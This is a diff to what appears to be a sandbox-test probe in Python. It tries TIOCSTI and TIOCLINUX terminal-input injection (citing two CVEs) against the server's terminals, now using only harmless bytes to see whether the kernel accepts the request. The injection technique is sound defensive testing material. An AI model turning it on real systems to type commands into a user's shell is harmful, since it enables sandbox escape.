@@ -1,15 +1,15 @@
 """Type into the terminal of whoever started the server.
 
 Technique: TIOCSTI puts characters into a terminal's input as if typed (CVE-2017-5226 against bubblewrap, CVE-2023-28100 the same by
-    TIOCLINUX): the shell that started the sandbox executes them after it. Tried on the standard streams, /dev/tty, consoles and
-    pseudo-terminals, with a pseudo-terminal made if one can be had.
+    TIOCLINUX): the shell that started the sandbox executes them after it. Tried on the standard streams and whatever terminal
+    opens, with the one character that terminals swallow (XON), and with a question for the console.
 Success: a terminal is opened, or the kernel takes the request.
 Stopped by: root_filesystem, seccomp
 """
 import fcntl
 import glob
 
-TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCSETD, TIOCCONS = 0x5412, 0x541C, 0x540E, 0x5423, 0x541D
+TIOCSTI, TIOCLINUX = 0x5412, 0x541C
 
 
 def attack():
@@ -22,7 +22,7 @@ def attack():
             won.append(f"opened {place}")
             descriptors[place] = fd
     for name, fd in descriptors.items():
-        for request, argument in ((TIOCSTI, b" "), (TIOCLINUX, b"\x02"), (TIOCSCTTY, 0), (TIOCSETD, b"\0\0\0\0"), (TIOCCONS, 0)):
+        for request, argument in ((TIOCSTI, b"\x11"), (TIOCLINUX, b"\x06")):
             came = answer(fcntl.ioctl, fd, request, argument)
             # What is no terminal says ENOTTY without a filter, so that counts only where there is one.
             if came not in ("EPERM", "ENOTTY", "EACCES", "EIO", "EINVAL"):
